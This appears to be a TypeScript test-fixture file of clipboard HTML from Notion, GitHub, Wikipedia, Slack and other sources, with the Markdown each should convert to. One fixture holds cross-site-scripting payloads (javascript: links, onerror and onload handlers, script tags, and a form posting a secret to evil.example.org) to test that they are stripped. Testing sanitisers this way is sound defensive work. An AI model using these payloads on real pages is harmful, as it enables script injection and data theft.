import type { Clipboard } from './clipboard.js';
import { pixel } from './google.js';

export const web: readonly Clipboard[] = [
  {
    name: 'Notion: tasks, code and a toggle',
    html: `<meta charset='utf-8'><!-- notionvc: 0d6f2a10-2a67-4f3e-9d0d-3f6f1a2b3c4d --><h2>Plan</h2>

<ul class="to-do-list"><li><div class="checkbox checkbox-on"></div> <span class="to-do-children-checked">Mix</span><div class="indented"></div></li></ul><ul class="to-do-list"><li><div class="checkbox checkbox-off"></div> <span class="to-do-children-unchecked">Bake</span></li></ul>
<pre><code class="language-JavaScript">const a = 1;

a();</code></pre>
<p>with <strong>care</strong> and <code>care()</code></p><hr>`,
    markdown:
      '## Plan\n\n- [x] Mix\n- [ ] Bake\n\n```JavaScript\nconst a = 1;\n\na();\n```\n\nwith **care** and `care()`\n\n---',
    blocks: [
      'heading 2: Plan',
      'list unordered: ☑ Mix / ☐ Bake',
      'code JavaScript: const a = 1;\n\na();',
      'paragraph: with **care** and `care()`',
    ],
  },
  {
    name: 'GitHub: code with colours, tasks and links of headings',
    html: `<meta charset='utf-8'><div class="markdown-heading" dir="auto"><h2 tabindex="-1" class="heading-element" dir="auto">Use it</h2><a id="user-content-use-it" class="anchor" aria-label="Permalink: Use it" href="https://github.com/o/r#use-it"><svg class="octicon octicon-link" viewBox="0 0 16 16"><path d="m7.775 3.275"></path></svg></a></div><div class="highlight highlight-source-js notranslate position-relative overflow-auto" dir="auto"><pre><span class="pl-k">import</span> <span class="pl-s1">a</span> <span class="pl-k">from</span> <span class="pl-s">'a'</span><span class="pl-kos">;</span>
<span class="pl-en">a</span><span class="pl-kos">(</span><span class="pl-kos">)</span></pre><div class="zeroclipboard-container"><clipboard-copy aria-label="Copy" value="import"><svg></svg></clipboard-copy></div></div><ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" id="" disabled="" class="task-list-item-checkbox" checked=""> done <code class="notranslate">x</code></li><li class="task-list-item"><input type="checkbox" id="" disabled="" class="task-list-item-checkbox"> open</li></ul>`,
    markdown: "## Use it\n\n```js\nimport a from 'a';\na()\n```\n\n- [x] done `x`\n- [ ] open",
    blocks: ['heading 2: Use it', "code js: import a from 'a';\na()", 'list unordered: ☑ done `x` / ☐ open'],
  },
  {
    name: 'Wikipedia: links, notes, and a table with its caption',
    html: `<meta charset='utf-8'><div class="mw-heading mw-heading2"><h2 id="Rye">Rye</h2><span class="mw-editsection"><span class="mw-editsection-bracket">[</span><a href="https://en.wikipedia.org/w/index.php?title=Rye&amp;action=edit&amp;section=1" title="Edit section: Rye"><span>edit</span></a><span class="mw-editsection-bracket">]</span></span></div><p><b>Rye</b> (<i><a href="https://en.wikipedia.org/wiki/Secale" title="Secale">Secale</a></i>) is a <a href="https://en.wikipedia.org/wiki/Grass_(plant)" class="mw-redirect">grass</a>.<sup id="cite_ref-1" class="reference"><a href="#cite_note-1"><span class="cite-bracket">[</span>1<span class="cite-bracket">]</span></a></sup></p>
<table class="wikitable sortable"><tbody><tr><th>Country</th><th>Tonnes</th></tr><tr><td><span class="flagicon"><img alt="" src="https://upload.wikimedia.org/de.png" width="23" height="14"></span> <a href="https://en.wikipedia.org/wiki/Germany">Germany</a></td><td>3.2</td></tr></tbody></table>`,
    markdown:
      '## Rye\n\n**Rye** ([_Secale_](https://en.wikipedia.org/wiki/Secale "Secale")) is a [grass](<https://en.wikipedia.org/wiki/Grass_(plant)>).[1]\n\n| Country | Tonnes |\n| --- | --- |\n| [Germany](https://en.wikipedia.org/wiki/Germany) | 3.2 |',
    blocks: [
      'heading 2: Rye',
      'paragraph: **Rye** ([_Secale_](https://en.wikipedia.org/wiki/Secale)) is a [grass](https://en.wikipedia.org/wiki/Grass_(plant)).[1]',
      'paragraph: Country | Tonnes',
      'paragraph: [Germany](https://en.wikipedia.org/wiki/Germany) | 3.2',
    ],
  },
  {
    name: 'a page of a newspaper: figures, blocks in blocks, single line breaks',
    html: `<meta charset='utf-8'><article><header><h1 class="title">Bread</h1><button>Share</button></header><figure><picture><source srcset="https://img.example.org/a.webp"><img src="https://img.example.org/a.jpg" alt="A mill" title="By the river" width="1200" loading="lazy"></picture><figcaption>Photo: Ada</figcaption></figure><div><section><p>One<br>two<br><br>three</p></section></div><aside hidden>Advertisement</aside><nav><ul><li><a href="https://example.org/a">Next</a></li></ul></nav></article>`,
    markdown:
      '# Bread\n\n![A mill](https://img.example.org/a.jpg "By the river")\n\nPhoto: Ada\n\nOne\\\ntwo\n\nthree\n\n- [Next](https://example.org/a)',
    blocks: [
      'heading 1: Bread',
      'paragraph: [A mill](https://img.example.org/a.jpg)',
      'paragraph: Photo: Ada',
      'paragraph: One\ntwo',
      'paragraph: three',
      'list unordered: [Next](https://example.org/a)',
    ],
    losses: 'Images stay on other servers: img.example.org. Add them to the library if they are to be there for good.',
  },
  {
    name: 'a page that attacks: scripts, handlers, and addresses that run',
    html: `<p onclick="alert(1)">One <a href="javascript:alert(1)">two</a> <a href=" JaVaScRiPt:alert(1)">three</a> <a href="data:text/html,<script>alert(1)</script>">four</a> <a href="vbscript:x">five</a></p><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script><text>six</text></svg><iframe src="https://evil.example.org"></iframe><style>@import 'https://evil.example.org'</style><object data="x.swf"></object><form action="https://evil.example.org"><input name=p value=secret><button>Send</button></form><math><mtext><img src=x onerror=alert(1)></mtext></math><template><p>seven</p></template><base href="https://evil.example.org"><p>&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1))</p>`,
    markdown: 'One two three four five\n\n\\<script\\>alert(1)\\</script\\> \\[x\\](javascript:alert(1))',
    losses:
      'Images that are only on your computer were left out: x. Add them from there. Links that lead to no page are text now: javascript:alert(1), JaVaScRiPt:alert(1), data:text/html,<script>alert(1)</script>, vbscript:x.',
  },
  {
    name: 'images in the clipboard: those that can be stored, and a drawing',
    html: `<p>One</p><img src="${pixel}" alt="A pixel"><p>Two <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="A drawing"></p>`,
    markdown: `One\n\n![A pixel](${pixel})\n\nTwo`,
    blocks: ['paragraph: One', `image: ${pixel}`, 'paragraph: Two'],
    losses: 'Images that are only on your computer were left out: A drawing. Add them from there.',
  },
  {
    name: 'an own page: files keep only their path',
    html: `<p><a href="https://content.example.org/uploads/plan.pdf">Plan</a></p><img src="https://content.example.org/uploads/mill.png" alt="Mill">`,
    markdown: '[Plan](/uploads/plan.pdf)\n\n![Mill](/uploads/mill.png)',
    blocks: ['paragraph: [Plan](/uploads/plan.pdf)', 'paragraph: [Mill](/uploads/mill.png)'],
  },
  {
    name: 'Apple Notes: classes, spaces and empty lines',
    html: `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd"><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Cocoa HTML Writer"><style type="text/css">p.p1 {margin: 0.0px; font: 13.0px 'Helvetica Neue'} span.s1 {font: 12.0px Menlo} span.s2 {text-decoration: underline}</style></head><body><p class="p1"><b>Bread</b></p><p class="p1"><br></p><p class="p1">Two<span class="Apple-converted-space">&nbsp; </span>spaces, <span class="s2">under</span></p><ul class="ul1"><li class="li1"><span class="s3"></span>Rye</li></ul></body></html>`,
    markdown: '**Bread**\n\nTwo spaces, under\n\n- Rye',
    blocks: ['paragraph: **Bread**', 'paragraph: Two spaces, <u>under</u>', 'list unordered: Rye'],
  },
  {
    name: 'Slack: a message with a link and code',
    html: `<meta charset='utf-8'><span style="color: rgb(29, 28, 29); font-family: Slack-Lato; font-style: normal; font-weight: 400;">See<span> </span></span><a target="_blank" class="c-link" href="https://example.org/a_b" rel="noopener noreferrer" style="color: rgb(18, 100, 163); font-weight: 400;">https://example.org/a_b</a><span><span> </span>and<span> </span></span><code data-stringify-type="code" class="c-mrkdwn__code">a_b</code>`,
    markdown: 'See <https://example.org/a_b> and `a_b`',
    blocks: ['paragraph: See [https://example.org/a_b](https://example.org/a_b) and `a_b`'],
  },
  {
    name: 'a mail in tables that only place',
    html: `<table role="presentation" width="600"><tbody><tr><td><table><tbody><tr><td><h2>News</h2><p>One</p></td></tr><tr><td><p>Two</p></td></tr></tbody></table></td></tr></tbody></table>`,
    markdown: '## News\n\nOne\n\nTwo',
  },
  {
    name: 'an editor of code: lines in colours',
    html: `<meta charset='utf-8'><div style="color: #d4d4d4;background-color: #1e1e1e;font-family: Menlo, Monaco, 'Courier New', monospace;font-weight: normal;font-size: 12px;line-height: 18px;white-space: pre;"><div><span style="color: #569cd6;">const</span><span style="color: #d4d4d4;"> a = </span><span>1</span></div><br><div><span>  a_b(*c*);</span></div></div>`,
    text: 'const a = 1\n\n  a_b(*c*);',
    markdown: '```\nconst a = 1\n\n  a_b(*c*);\n```',
  },
];
